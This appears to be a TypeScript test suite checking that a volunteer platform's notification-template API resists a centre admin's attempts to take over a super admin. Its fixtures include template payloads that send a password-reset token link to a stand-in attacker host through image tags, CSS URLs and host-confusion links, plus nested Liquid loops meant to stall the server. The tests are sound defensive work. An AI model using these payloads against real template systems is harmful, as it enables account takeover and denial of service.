import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { notificationEvents, notificationEventDefinitions } from '@volunteerly/contracts/notification-events';
import { createOrganization } from '../../src/factories/organization-factory.ts';
import { createTenant } from '../../src/factories/tenant-factory.ts';
import { createUser, type RoleToGrant } from '../../src/factories/user-factory.ts';
import { createCenter } from '../../src/factories/volunteer-center-factory.ts';
import { buildMailBranding } from '../../src/modules/mail/mail-branding.ts';
import { notificationTemplates } from '../../src/modules/notification-templates/notification-templates.schema.ts';
import { renderNotification } from '../../src/modules/notification-templates/render-notification.ts';
import { withTenant } from '../../src/platform/database/tenant-scope.ts';
import { watchEventLoop } from '../support/loop-watch.ts';
import { lastMailTo } from '../support/mailbox.ts';
import { signIn, signedInHeaders, type SessionHeaders } from '../support/sessions.ts';
import { createTestApp, tenantHeaders, type TestApp } from '../support/test-app.ts';

// Issue 29, holes 1 and 2: a centre admin of one centre tries to take over a super admin through
// a template (the attack run needed 7 requests), and to stall the process with one.

const origin = 'https://havenstad.example';
const base = '/api/v1/notification_templates';
const steal = 'https://aanvaller.example/buit';

/** A template body for an event, with texts a thief would write. */
function body(event: string, locale: string, texts: Record<string, string>, centerId?: number) {
  return {
    notification_template: {
      event,
      locale,
      ...(centerId === undefined ? {} : { volunteer_center_id: centerId }),
      subject: 'Bericht van {{ appName }}',
      html_body: '<p>Hallo {{ name }}</p>',
      text_body: 'Hallo {{ name }}',
      in_app_text: 'Bericht',
      ...texts,
    },
  };
}

/** Every way a thief tried to get the link with the token out of the mail. */
const tokenTexts: Record<string, string>[] = [
  { html_body: `<p>Hallo</p><img src="${steal}?t={{ link | url_encode }}">` },
  { html_body: '<p><a href="{{ link }}">Klik</a></p>' },
  { html_body: '<p>Open {{ link }}</p>', text_body: 'Open' },
  { subject: 'Code {{ link | slice: -22, 22 }}' },
  { in_app_text: '{{ link }}' },
  { html_body: '{% capture x %}{{ link }}{% endcapture %}<p>{{ x }}</p>' },
];

/** Every way a text tried to load from or send readers to another site. */
const foreignTexts: Record<string, string>[] = [
  { html_body: `<p style="background: url(${steal})">Hallo</p>` },
  { html_body: `<img src="${steal}/pixel.png">` },
  { html_body: `<a href="${steal}">Bekijk</a>` },
  { html_body: `<p>Zie ${steal}</p>`, text_body: 'Zie' },
  { html_body: `<a href="https://havenstad.example.aanvaller.example/">Bekijk</a>` },
  { html_body: `<a href="https://havenstad.example@aanvaller.example/">Bekijk</a>` },
];

describe('templates cannot carry a token, leave the site or reach another centre', () => {
  let testApp: TestApp;
  let tenantId: number;
  let centerOne: number;
  let centerTwo: number;
  let thief: SessionHeaders;
  let otherCenterAdmin: SessionHeaders;
  const people: Record<string, number> = {};
  let thieves = 0;

  /** Another centre admin of centre 1 (each person may check 30 templates a minute). */
  async function freshThief(): Promise<SessionHeaders> {
    thieves += 1;
    const { user } = await createUser(testApp.database, tenantId, {
      user: { email: `noord-${thieves}@havenstad.example` },
      roles: [{ name: 'center_admin', resourceId: centerOne }],
    });
    return signIn(testApp, 'havenstad', user.email);
  }

  beforeAll(async () => {
    testApp = await createTestApp();
    const { database } = testApp;
    const tenant = await createTenant(database, {
      key: 'havenstad',
      appName: 'Havenstad helpt',
      hosts: ['havenstad.example'],
    });
    tenantId = tenant.id;
    centerOne = (await createCenter(database, tenantId, { center: { isDefault: true, name: 'Centrum Noord' } })).center
      .id;
    centerTwo = (await createCenter(database, tenantId, { center: { name: 'Centrum Zuid' } })).center.id;
    const southOrganization = await createOrganization(database, { tenantId, id: centerTwo }, { name: 'Zuiderkracht' });
    const make = async (label: string, roles: RoleToGrant[] = []) => {
      const { user } = await createUser(database, tenantId, { user: { email: `${label}@havenstad.example` }, roles });
      people[label] = user.id;
      return user;
    };
    await make('beheer', [{ name: 'super_admin' }]);
    const thiefUser = await make('noord', [{ name: 'center_admin', resourceId: centerOne }]);
    const southAdmin = await make('zuid', [{ name: 'center_admin', resourceId: centerTwo }]);
    await make('zuid-organisatie', [{ name: 'admin', resourceId: southOrganization.id }]);
    await make('vrijwilliger');
    thief = await signIn(testApp, 'havenstad', thiefUser.email);
    otherCenterAdmin = await signIn(testApp, 'havenstad', southAdmin.email);
  });
  afterAll(async () => testApp.close());

  const send = (session: SessionHeaders, method: 'GET' | 'POST' | 'PATCH' | 'DELETE', url: string, payload?: object) =>
    testApp.app.inject({
      method,
      url,
      headers: signedInHeaders('havenstad', session, { host: 'havenstad.example' }),
      ...(payload ? { payload } : {}),
    });

  it('keeps every security mail as shipped: no centre may save or preview one', async () => {
    thief = await freshThief();
    const fixed = notificationEvents.filter((event) => !notificationEventDefinitions[event].overridable);
    expect(fixed).toEqual(
      expect.arrayContaining(['reset_password', 'email_change', 'sign_in_locked', 'password_changed']),
    );
    for (const event of fixed) {
      for (const path of [base, `${base}/preview`]) {
        const answer = await send(thief, 'POST', path, body(event, 'nl', {}));
        expect(answer.statusCode, `${event} ${path}`).toBe(422);
        expect(answer.json().errors[0].code).toBe('template_event_fixed');
      }
    }
  });

  it('refuses every text that would carry the link, load from or link to another site', async () => {
    // Every event whose link carries a token, and two that reach staff: the rules are the same for all.
    const events = notificationEvents.filter(
      (name) =>
        notificationEventDefinitions[name].overridable &&
        (notificationEventDefinitions[name].secretVariables.length > 0 ||
          name === 'organization_signed_up' ||
          name === 'conversation_message'),
    );
    for (const event of events) {
      const carriesToken = notificationEventDefinitions[event].secretVariables.includes('link');
      const eventThief = await freshThief();
      for (const texts of [...foreignTexts, ...(carriesToken ? tokenTexts : [])]) {
        const answer = await send(eventThief, 'POST', base, body(event, 'nl', texts));
        expect(answer.statusCode, `${event} ${JSON.stringify(texts)}: ${answer.body}`).toBe(422);
        expect(answer.json().errors[0].code).toMatch(/^template_(secret_variable|foreign_address|unknown_variable)$/);
      }
    }
    const rows = await withTenant(testApp.database, tenantId, ({ transaction }) =>
      transaction.select().from(notificationTemplates),
    );
    expect(rows).toEqual([]);
  });

  it('never stores a plain text sent along: the one it keeps is made from the checked HTML', async () => {
    const answer = await send(
      await freshThief(),
      'POST',
      base,
      body('confirmation', 'en', { text_body: `Open {{ link }} or ${steal}` }),
    );
    expect(answer.statusCode, answer.body).toBe(201);
    expect(answer.json().data.attributes.text_body).toBe('Hallo {{ name }}');
    await withTenant(testApp.database, tenantId, ({ transaction }) => transaction.delete(notificationTemplates));
  });

  it("lets the reset mail to a super admin carry the token only in its button on the tenant's host", async () => {
    // Even templates that got into the database some other way (an old version, a direct write).
    await withTenant(testApp.database, tenantId, ({ transaction }) =>
      transaction.insert(notificationTemplates).values(
        (['reset_password', 'confirmation'] as const).map((event) => ({
          tenantId,
          volunteerCenterId: centerOne,
          event,
          locale: 'nl',
          subject: 'Code {{ link }}',
          htmlBody: `<img src="${steal}?t={{ link | url_encode }}"><p>{{ link }}</p>`,
          textBody: '{{ link }}',
          inAppText: '{{ link }}',
        })),
      ),
    );
    const reset = await testApp.app.inject({
      method: 'POST',
      url: '/auth/password',
      headers: tenantHeaders('havenstad', { host: 'havenstad.example', 'volunteer-center-id': String(centerOne) }),
      payload: { email: 'beheer@havenstad.example' },
    });
    expect(reset.statusCode).toBe(200);
    const mail = await lastMailTo(testApp, tenantId, 'beheer@havenstad.example');
    const token = /reset_password_token=([\w-]+)/.exec(mail.text)?.[1];
    expect(token).toBeDefined();
    const resetLink = `${origin}/auth/reset?reset_password_token=${token}`;
    // The token appears only inside the button's address and its written-out fallback (HTML), and
    // on the action line (text); nowhere else, in no spelling.
    const html = mail.html ?? '';
    const htmlWithoutLinks = html.replaceAll(`href="${resetLink}"`, '').replaceAll(`>${resetLink}<`, '><');
    expect(htmlWithoutLinks).not.toContain(token);
    expect(html).not.toContain('aanvaller.example');
    expect(mail.text.split('\n').filter((line) => line.includes(token!))).toEqual([
      expect.stringMatching(new RegExp(`: ${resetLink.replace(/[.?]/g, '\\$&')}$`)),
    ]);
    expect(mail.subject).not.toContain(token);
    await withTenant(testApp.database, tenantId, ({ transaction }) => transaction.delete(notificationTemplates));
  });

  it("keeps one centre's admin away from another centre's templates", async () => {
    thief = await freshThief();
    const south = await send(
      otherCenterAdmin,
      'POST',
      base,
      body('organization_signed_up', 'nl', { subject: 'Zuid: {{ organization }}' }),
    );
    expect(south.statusCode, south.body).toBe(201);
    expect(south.json().data.attributes.volunteer_center_id).toBe(centerTwo);
    const path = `${base}/${south.json().data.id}`;
    expect((await send(thief, 'GET', path)).statusCode).toBe(404);
    expect((await send(thief, 'PATCH', path, { notification_template: { subject: 'Overgenomen' } })).statusCode).toBe(
      404,
    );
    expect((await send(thief, 'DELETE', path)).statusCode).toBe(404);
    const otherList = await send(thief, 'GET', `${base}?filter[volunteer_center_id]=${centerTwo}`);
    expect(otherList.statusCode).toBe(403);
    const create = await send(thief, 'POST', base, body('organization_approved', 'nl', {}, centerTwo));
    expect(create.statusCode).toBe(403);
    const ownList = await send(thief, 'GET', `${base}?filter[event]=organization_signed_up&filter[locale]=nl`);
    expect(ownList.json().meta).toMatchObject({
      volunteer_center_id: centerOne,
      centers: [{ id: centerOne, name: 'Centrum Noord' }],
    });
    expect(ownList.json().data[0].attributes.overridden).toBe(false);
    expect((await send(otherCenterAdmin, 'DELETE', path)).statusCode).toBe(204);
  });

  it("sends a centre's own template only to people that centre governs", async () => {
    thief = await freshThief();
    const saved = await send(
      thief,
      'POST',
      base,
      body('organization_signed_up', 'nl', { subject: 'Noord: {{ organization }}' }),
    );
    expect(saved.statusCode, saved.body).toBe(201);
    const subjectFor = async (recipient: string | null) =>
      (
        await renderNotification(testApp.app, {
          tenantId,
          centerId: centerOne,
          recipientUserId: recipient === null ? null : people[recipient]!,
          allowedHosts: ['havenstad.example'],
          event: 'organization_signed_up',
          locale: 'nl',
          values: {
            name: 'X',
            appName: 'Havenstad helpt',
            organization: 'Buurtkracht',
            link: `${origin}/organizations/1`,
          },
          branding: buildMailBranding({
            appName: 'Havenstad helpt',
            centerName: 'Centrum Noord',
            profile: undefined,
            link: (p) => `${origin}${p}`,
          }),
        })
      ).subject;
    expect(await subjectFor('noord')).toBe('Noord: Buurtkracht');
    expect(await subjectFor('vrijwilliger')).toBe('Noord: Buurtkracht');
    expect(await subjectFor(null)).toBe('Noord: Buurtkracht');
    const shipped = await subjectFor('beheer');
    expect(shipped).not.toContain('Noord:');
    expect(await subjectFor('zuid')).toBe(shipped);
    expect(await subjectFor('zuid-organisatie')).toBe(shipped);
    await send(thief, 'DELETE', `${base}/${saved.json().data.id}`);
  });

  it('refuses a template that asks too much work, without holding up the process', async () => {
    thief = await freshThief();
    const nested =
      '{% for a in (1..300) %}{% for b in (1..300) %}{% for c in (1..300) %}{{ name }}{% endfor %}{% endfor %}{% endfor %}';
    const hugeOutput = '{% for a in (1..4000) %}{{ name }}{{ name }}{{ name }}{{ name }}{{ name }}{% endfor %}';
    const emptyLoops = '{% for a in (1..2000) %}{% for b in (1..2000) %}{% endfor %}{% endfor %}';
    const loop = watchEventLoop();
    for (const text of [nested, hugeOutput, emptyLoops]) {
      for (const path of [base, `${base}/preview`]) {
        const answer = await send(thief, 'POST', path, body('organization_approved', 'nl', { html_body: text }));
        expect(answer.statusCode, `${path}: ${answer.body}`).toBe(422);
        expect(answer.json().errors[0].code).toBe('template_too_costly');
      }
    }
    const blockedMs = loop.stop();
    // Before issue 29 one such preview held the whole process for 4–5 s; now the work runs in the
    // render worker within its budget. A generous bound that fails the build if it comes back.
    expect(blockedMs).toBeLessThan(1_000);
  });

  it('falls back to the shipped text when a stored template overruns its budget at send time', async () => {
    await withTenant(testApp.database, tenantId, ({ transaction }) =>
      transaction.insert(notificationTemplates).values({
        tenantId,
        volunteerCenterId: centerOne,
        event: 'organization_approved',
        locale: 'nl',
        subject: 'Duur',
        htmlBody: '{% for a in (1..3000) %}{% for b in (1..3000) %}{{ name }}{% endfor %}{% endfor %}',
        textBody: 'Duur',
        inAppText: 'Duur',
      }),
    );
    const log = { error: vi.fn() };
    const mail = await renderNotification(testApp.app, {
      tenantId,
      centerId: centerOne,
      recipientUserId: people['vrijwilliger']!,
      allowedHosts: ['havenstad.example'],
      event: 'organization_approved',
      locale: 'nl',
      values: { name: 'X', appName: 'Havenstad helpt', organization: 'Buurtkracht', link: `${origin}/organizations/1` },
      branding: buildMailBranding({
        appName: 'Havenstad helpt',
        centerName: 'Centrum Noord',
        profile: undefined,
        link: (p) => `${origin}${p}`,
      }),
      log,
    });
    expect(mail.subject).not.toBe('Duur');
    expect(log.error).toHaveBeenCalledOnce();
    await withTenant(testApp.database, tenantId, ({ transaction }) => transaction.delete(notificationTemplates));
  });

  it('limits previews and saves to 30 a minute per person', async () => {
    const { user } = await createUser(testApp.database, tenantId, {
      user: { email: 'haastig@havenstad.example' },
      roles: [{ name: 'center_admin', resourceId: centerOne }],
    });
    const session = await signIn(testApp, 'havenstad', user.email);
    const answers = [];
    for (let attempt = 0; attempt < 31; attempt += 1) {
      answers.push(await send(session, 'POST', `${base}/preview`, body('organization_approved', 'nl', {})));
    }
    expect(answers.slice(0, 30).every((answer) => answer.statusCode === 200)).toBe(true);
    expect(answers[30]!.statusCode).toBe(429);
    expect(Number(answers[30]!.headers['retry-after'])).toBeGreaterThan(0);
    // Someone else is not held back by it.
    expect(
      (await send(await freshThief(), 'POST', `${base}/preview`, body('organization_approved', 'nl', {}))).statusCode,
    ).toBe(200);
  });
});
